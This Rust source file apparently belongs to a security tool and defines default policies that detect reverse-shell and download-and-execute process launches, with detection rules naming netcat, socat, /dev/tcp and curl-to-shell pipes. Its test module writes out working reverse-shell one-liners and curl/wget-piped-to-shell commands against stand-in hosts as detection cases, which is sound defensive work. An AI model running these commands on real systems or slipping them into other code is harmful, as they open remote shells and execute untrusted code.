//! Built-in command policy: launches that are attacks whoever asked for them.
//!
//! These apply to every process launch, inside a request or not (a deserialization gadget or a
//! compromised dependency launches from a background thread): a reverse shell, or code
//! downloaded and run in one go. They are judged on the words of the command line and of a
//! shell script in it, not on request input. (The rule engine of a later release generalises
//! this into user-editable rules; these are the shipped defaults.)

use super::programs::basename;
use super::CommandLine;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum CmdPolicy {
    /// A shell or interpreter wired to a network socket.
    ReverseShell,
    /// A download piped into, or made executable for, an interpreter.
    DownloadExecute,
}

impl CmdPolicy {
    pub fn id(self) -> &'static str {
        match self {
            CmdPolicy::ReverseShell => "cmdi.policy.reverse_shell",
            CmdPolicy::DownloadExecute => "cmdi.policy.download_execute",
        }
    }

    pub fn message(self) -> &'static str {
        match self {
            CmdPolicy::ReverseShell => "a process launch opens a reverse shell",
            CmdPolicy::DownloadExecute => "a process launch downloads code and runs it",
        }
    }
}

const SHELLS_AND_INTERPRETERS: [&str; 11] = [
    "sh", "bash", "dash", "zsh", "ksh", "ash", "python", "python3", "perl", "ruby", "php",
];

/// Splits a command line into pipeline segments (at `|`, `;`, `&`, newlines) of words.
fn segments(line: &str) -> Vec<Vec<String>> {
    line.split(['|', ';', '&', '\n'])
        .map(|seg| {
            seg.split(|c: char| {
                c.is_whitespace() || c == '(' || c == ')' || c == '`' || c == '"' || c == '\''
            })
            .filter(|w| !w.is_empty())
            .map(str::to_owned)
            .collect::<Vec<_>>()
        })
        .filter(|seg: &Vec<String>| !seg.is_empty())
        .collect()
}

/// The policy a launch violates, if any.
pub fn check(cmd: &CommandLine) -> Option<CmdPolicy> {
    let (line, _) = cmd.joined();
    let lower = line.to_ascii_lowercase();
    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
        return Some(CmdPolicy::ReverseShell);
    }
    let segs = segments(&lower);
    let words = || segs.iter().flatten();
    let is = |w: &String, names: &[&str]| names.contains(&basename(w).as_str());

    // nc -e /bin/sh host port, ncat -c, socat exec:, mkfifo + nc
    let netcat = ["nc", "ncat", "netcat"];
    for seg in &segs {
        if let Some(pos) = seg.iter().position(|w| is(w, &netcat)) {
            if seg[pos + 1..].iter().any(|w| {
                w.starts_with("-e") || w.starts_with("-c") || w == "--exec" || w == "--sh-exec"
            }) {
                return Some(CmdPolicy::ReverseShell);
            }
        }
    }
    if words().any(|w| is(w, &["socat"])) && lower.contains("exec:") {
        return Some(CmdPolicy::ReverseShell);
    }
    if words().any(|w| is(w, &["mkfifo", "mknod"])) && words().any(|w| is(w, &netcat)) {
        return Some(CmdPolicy::ReverseShell);
    }
    let interpreter =
        words().any(|w| is(w, &["python", "python2", "python3", "perl", "ruby", "php"]));
    if interpreter
        && lower.contains("socket")
        && ["connect", "fsockopen", "tcpsocket"]
            .iter()
            .any(|k| lower.contains(k))
    {
        return Some(CmdPolicy::ReverseShell);
    }

    // curl ... | sh, wget -O- ... | python; curl -o x && chmod +x x
    let downloader = ["curl", "wget", "fetch"];
    if let Some(first) = segs
        .iter()
        .position(|seg| seg.iter().any(|w| is(w, &downloader)))
    {
        let piped_to_interpreter = segs[first + 1..]
            .iter()
            .any(|seg| seg.first().is_some_and(|w| is(w, &SHELLS_AND_INTERPRETERS)));
        let made_executable = words().any(|w| is(w, &["chmod"])) && lower.contains("+x");
        if piped_to_interpreter || made_executable {
            return Some(CmdPolicy::DownloadExecute);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmd(argv: &[&str]) -> CommandLine {
        CommandLine {
            argv: argv.iter().map(|s| s.to_string()).collect(),
            env: vec![],
        }
    }

    #[test]
    fn policies_with_benign_twins() {
        let cases: &[(&[&str], Option<CmdPolicy>)] = &[
            (
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
                Some(CmdPolicy::ReverseShell),
            ),
            (&["bash", "-c", "echo done > /tmp/out"], None),
            (
                &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
                Some(CmdPolicy::ReverseShell),
            ),
            (&["nc", "-z", "10.0.0.1", "4444"], None),
            (
                &[
                    "sh",
                    "-c",
                    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
                ],
                Some(CmdPolicy::ReverseShell),
            ),
            (
                &["socat", "tcp:10.0.0.1:4444", "exec:/bin/sh"],
                Some(CmdPolicy::ReverseShell),
            ),
            (&["socat", "tcp-listen:8080", "tcp:backend:80"], None),
            (
                &[
                    "python3",
                    "-c",
                    "import socket,os;s=socket.socket();s.connect(('10.0.0.1',4444))",
                ],
                Some(CmdPolicy::ReverseShell),
            ),
            (&["python3", "-c", "print('hello')"], None),
            (
                &["sh", "-c", "curl -fsSL https://evil.example/x.sh | sh"],
                Some(CmdPolicy::DownloadExecute),
            ),
            (
                &["sh", "-c", "wget -qO- http://evil.example/p.py | python3"],
                Some(CmdPolicy::DownloadExecute),
            ),
            (
                &[
                    "sh",
                    "-c",
                    "curl -o /tmp/x http://e.example/x && chmod +x /tmp/x && /tmp/x",
                ],
                Some(CmdPolicy::DownloadExecute),
            ),
            (&["curl", "-fsS", "https://api.example/health"], None),
            (
                &["sh", "-c", "curl -s https://api.example/v1 | jq .status"],
                None,
            ),
        ];
        for (argv, want) in cases {
            assert_eq!(check(&cmd(argv)), *want, "{argv:?}");
        }
    }
}
